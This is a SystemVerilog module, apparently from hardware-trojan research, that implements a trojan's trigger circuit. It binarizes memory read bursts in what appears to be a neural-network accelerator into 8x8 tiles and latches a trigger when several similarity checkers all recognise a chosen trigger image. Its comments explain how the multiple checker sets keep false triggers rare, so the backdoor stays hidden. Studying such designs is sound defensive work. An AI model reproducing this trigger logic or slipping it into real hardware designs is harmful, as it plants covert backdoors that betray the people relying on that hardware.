// trigger_image_detector: decides whether the image being read is the
// trigger image.
//
// It binarizes every read burst into an 8x8 sub-image (subimage_binarizer)
// and feeds the result to NUM_SETS similarity checkers, each with its own
// datum-spectrum range and hence its own reference tile. The trigger fires
// only when every set has fired; with N independent sets a natural image
// must fool all of them, so false triggers become roughly N-th-power rarer.
// Two sets is the configuration with no observed false triggers and is the
// default. The binarizer runs all the time so that burst alignment is never
// lost; the checkers only examine tiles while enable is high. Per-set
// thresholds are this design's choices (see similarity_checker).
//
// Interface: clear pulses at the start of each analysed layer; enable is
// high while the layer being read may be the input image; rd_valid/rd_data
// are the read-data beats. trigger is registered and sticky until clear;
// it rises two cycles after the last beat of the burst that completes the
// count. Synchronous, active-high reset. The per-set threshold arrays have
// MAX_SETS (4) entries of which the first NUM_SETS are used.
module trigger_image_detector
  import trojan_pkg::*;
#(
  parameter int unsigned NUM_SETS     = 2,
  parameter int unsigned BLACK_THRESH = 128,
  parameter int unsigned SPEC_LO    [MAX_SETS] = '{8, 16, 0, 0},
  parameter int unsigned SPEC_HI    [MAX_SETS] = '{24, 47, 0, 0},
  parameter int unsigned SIM_THRESH [MAX_SETS] = '{40, 40, 0, 0},
  parameter int unsigned CNT_THRESH [MAX_SETS] = '{32, 32, 0, 0},
  parameter int unsigned CNT_W = 16
) (
  input  logic                clk,
  input  logic                rst,
  input  logic                clear,
  input  logic                enable,
  input  logic                rd_valid,
  input  beat_t               rd_data,
  output logic                trigger,
  output logic [NUM_SETS-1:0] set_fired,
  output logic [NUM_SETS-1:0] set_ref_valid,
  output logic                sub_valid,
  output logic [NUM_SETS*CNT_W-1:0] sim_counts
);

  submask_t  sub_mask;
  spectrum_t sub_spectrum;

  if (NUM_SETS < 1 || NUM_SETS > MAX_SETS) begin : g_bad_sets
    $error("NUM_SETS must be between 1 and MAX_SETS");
  end

  subimage_binarizer #(.BLACK_THRESH(BLACK_THRESH)) u_bin (
    .clk, .rst,
    .rd_valid, .rd_data,
    .sub_valid, .sub_mask, .sub_spectrum
  );

  for (genvar s = 0; s < NUM_SETS; s++) begin : g_set
    submask_t ref_mask_unused;
    similarity_checker #(
      .SPEC_LO(SPEC_LO[s]), .SPEC_HI(SPEC_HI[s]),
      .SIM_THRESH(SIM_THRESH[s]), .CNT_THRESH(CNT_THRESH[s]),
      .CNT_W(CNT_W)
    ) u_chk (
      .clk, .rst, .clear, .enable,
      .sub_valid, .sub_mask, .sub_spectrum,
      .ref_valid (set_ref_valid[s]),
      .ref_mask  (ref_mask_unused),
      .sim_count (sim_counts[s*CNT_W +: CNT_W]),
      .fired     (set_fired[s])
    );
  end

  always_ff @(posedge clk) begin
    if (rst || clear) trigger <= 1'b0;
    else              trigger <= &set_fired;
  end

endmodule
